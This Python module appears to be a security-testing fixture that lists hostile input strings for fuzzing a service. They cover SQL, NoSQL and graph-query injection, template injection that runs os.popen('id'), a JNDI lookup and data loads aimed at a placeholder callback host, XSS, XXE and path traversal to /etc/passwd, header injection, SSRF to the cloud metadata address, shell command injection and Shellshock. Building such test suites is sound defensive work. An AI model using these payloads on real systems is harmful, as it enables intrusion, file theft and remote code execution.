"""What nobody honest sends: texts by what they try; facts of the usual lists, in words of our own."""

from __future__ import annotations

PRODUCT = 1337 * 7331  # what a template engine makes of the expressions below, and nobody else says
HEADER = "X-Injected"
_SUM = "1337*7331"

# {listener}: host and port of a server of the tests' own, which nobody may ever call.
TEXTS: dict[str, tuple[str, ...]] = {
    "odd words": (
        *(
            "undefined",
            "null",
            "NULL",
            "nil",
            "NaN",
            "Infinity",
            "true",
            "False",
            "__proto__",
            "constructor",
            "toString",
        ),
        *("hasOwnProperty", "CON", "NUL", "COM1", "-", "--", "0", "-1", "-0", "1e309", "0x7fffffff", "1/0", "1,000.00"),
        *(
            "9223372036854775808",
            "-9223372036854775809",
            "9" * 400,
            "\uff11\uff12",
            "\u00bd",
            "1\u0660",
            "0b1",
            "1_000",
        ),
    ),
    "unicode": (
        *("\u03a9\u2248\u00e7\u221a", "\u793e\u6703\u79d1\u5b78\u9662", "\U0001f469\u200d\U0001f469\u200d\U0001f467"),
        *(
            "\ufdfd",
            "Z\u0351\u036b\u0343\u036a\u0302",
            "\u202eevil",
            "\u2066a\u2069",
            "\ufeffa",
            "\u200b",
            "\u00a0",
            "\u3000",
        ),
        *(
            "\u2028",
            "\x85",
            "\x00",
            "a\x00b",
            "\x07",
            "\x1b[31mred",
            "\x7f",
            "\ue000",
            "\ufffe",
            "\U0010ffff",
            "\ud800",
        ),
        *(
            "\udc00a",
            "I\u0307",
            "\u1e9e",
            "e\u0301",
            "\u00e9",
            "\u212b",
            "\uff21",
            "a" * 201,
            "\u00e9" * 4097,
            " a ",
            "\t",
        ),
    ),
    "queries": (
        *(
            "' OR '1'='1",
            '" OR ""="',
            "1; DROP TABLE events--",
            "' UNION SELECT sql FROM sqlite_master--",
            "%' ESCAPE '!",
        ),
        *('{"$gt": ""}', '{"$ne": null}', "$where", "[$ne]", "a.b", "$", "this.constructor", '";return true;var a="'),
        *(
            "' OR 1=1 WITH 1 AS x MATCH (n) RETURN n //",
            "`}) DETACH DELETE n //",
            "\\' MATCH (n) RETURN n //",
            "$id",
            "*",
        ),
        *(
            "LOAD CSV FROM 'http://{listener}/' AS l RETURN l",
            "CALL apoc.load.json('http://{listener}/')",
            "%",
            "_",
            "\\",
        ),
    ),
    "templates": (
        *("{{" + _SUM + "}}", "${" + _SUM + "}", "#{" + _SUM + "}", "<%= " + _SUM + " %>", "{% print(" + _SUM + ") %}"),
        *(
            "{{''.__class__.__mro__}}",
            "{{config}}",
            "{{self.__init__.__globals__}}",
            "{0.__class__}",
            "%(x)s",
            "%s%n%x",
        ),
        *(
            "{{cycler.__init__.__globals__.os.popen('id').read()}}",
            "[[${" + _SUM + "}]]",
            "*{" + _SUM + "}",
            "{{",
            "{%",
            "#}",
        ),
        *("<mj-include path='/etc/passwd' />", "<mj-raw>{{" + _SUM + "}}</mj-raw>", "${jndi:ldap://{listener}/a}"),
    ),
    "markup": (
        *(
            "<script>alert(1)</script>",
            '"><img src=x onerror=alert(1)>',
            "javascript:alert(1)",
            "</title><svg onload=a()>",
        ),
        *(
            "]]>",
            "<!--",
            "&lt;",
            "&#0;",
            "<![CDATA[",
            "data:text/html;base64,PHNjcmlwdD4=",
            "expression(alert(1))",
            "<a\x0b b>",
        ),
        "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
    ),
    "headers": (
        *(
            f"a\r\n{HEADER}: 1",
            f"a\n{HEADER}: 1",
            f"a\r{HEADER}: 1",
            f"a%0d%0a{HEADER}:%201",
            f"a\u560d\u560a{HEADER}: 1",
        ),
        *(
            f"a\r\n\r\n<html>{HEADER}",
            f"a\u2028{HEADER}: 1",
            "=?utf-8?q?=0d=0ax?=",
            '"; filename="x.exe',
            "a\r\nBcc: x@y.example",
        ),
    ),
    "paths": (
        *(
            "../../../../etc/passwd",
            "..%2f..%2fetc%2fpasswd",
            "..\\..\\windows\\win.ini",
            "....//....//etc/passwd",
            "/etc/passwd",
        ),
        *(
            "file:///etc/passwd",
            ".",
            "..",
            "%2e%2e",
            "a/../../b",
            "a%00.png",
            "\\\\host\\share",
            "~root",
            "owner.json",
            "/",
            "//",
        ),
        *("signing.key", "history.db", "..;/admin", "%252e%252e%252f", "%c0%ae%c0%ae/", "a" * 5000),
    ),
    "addresses": (
        *(
            "http://{listener}/",
            "https://{listener}/",
            "http://user@{listener}/",
            "//{listener}/",
            "gopher://{listener}/_x",
        ),
        *(
            "http://169.254.169.254/latest/meta-data/",
            "http://[::1]/",
            "http://2130706433/",
            "http://0x7f000001/",
            "ftp://x",
        ),
        *(
            "http://localhost#@{listener}/",
            "http://{listener}\\@shop.example/",
            "dict://{listener}/",
            "http://[::ffff:127.0.0.1]/",
        ),
    ),
    "commands": (
        *("$(id)", "`id`", "; cat /etc/passwd", "| id", "&& id", "=cmd|' /C calc'!A0", "@SUM(1)", "+1", "-2+3", "\t=1"),
        *(
            "(a+)+$",
            "a" * 60 + "!",
            ".*",
            "[",
            "(?P<x>",
            "x'; exec master..xp_cmdshell 'dir'--",
            "() { :;}; echo vulnerable",
        ),
    ),
}


def texts(listener: str) -> list[str]:
    """Return all texts; those that name an address name this one."""
    return [text.replace("{listener}", listener) for group in TEXTS.values() for text in group]


# Beside what an operation declares. Credentials stand by themselves: too many wrong ones are refused for a while.
HEADERS = (
    "Accept",
    "Accept-Encoding",
    "Accept-Language",
    "Content-Type",
    "Cookie",
    "If-None-Match",
    "Origin",
    "Range",
    "Referer",
    "User-Agent",
    "X-Forwarded-For",
    "X-HTTP-Method-Override",
    "X-Request-Id",
    "traceparent",
    "Host",
)
